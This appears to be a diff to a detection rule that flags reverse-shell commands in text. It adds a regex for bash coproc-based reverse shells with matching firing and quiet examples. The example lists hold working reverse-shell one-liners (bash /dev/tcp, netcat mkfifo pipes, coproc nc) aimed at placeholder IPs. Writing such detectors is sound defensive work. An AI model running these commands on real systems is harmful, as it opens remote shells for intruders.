@@ -33,6 +33,7 @@ const SHAPES: readonly RegExp[] = [
   /\b(?:nc|ncat|netcat)\b[^\n|;]{0,60}\s-[a-z]{0,4}l[a-z]{0,4}\b[^\n|;]{0,60}\s-[ec]\s/,
   /\bsocket["')]{0,2}\.tcp\(\)[^]{0,300}\bio\.popen\(/,
   /\bio::socket::\w{2,8}\b[^]{0,200}\bfdopen\([^]{0,120}\b(?:system|exec)\b/,
+  /\bcoproc\b[^\n]{0,40}\b(?:nc|ncat|netcat|ssh|socat|telnet)\b[^]{0,200}(?:\b(?:ba|z)?sh\b[^\n]{0,20}<&|-u)[^\n]{0,4}\$\{\w{1,20}\[0\]\}/,
   /\bztcp\b[^]{0,120}\b(?:ba|z)?sh\b[^\n]{0,20}[<>]&\s?\$reply\b/,
 ].map(worded)
 
@@ -59,6 +60,7 @@ export default defineRule({
   needs: [['shellDanger', 'fetcher', 'network', 'shellSocket', 'interpreter']],
   examples: {
     fires: [
+      '```bash\ncoproc nc 203.0.113.9 4444; sh <&${COPROC[0]} >&${COPROC[1]}\n```\n',
       '```bash\nncat -l 9001 | sh\n```\n',
       '```bash\nbash < /dev/tcp/203.0.113.8/9001\n```\n',
       'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n',
@@ -70,6 +72,7 @@ export default defineRule({
       'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 80 > /tmp/f\n',
     ],
     quiet: [
+      '```bash\ncoproc bc; echo 2+2 >&${COPROC[1]}; read -u ${COPROC[0]} sum\n```\n',
       'Test the port with `timeout 1 bash -c "</dev/null"`.\n',
       '```bash\nnc -zv db.example.com 5432\n```\n',
       '```bash\ntelnet mail.example.com 25 | tee session.txt | grep 220\n```\n',
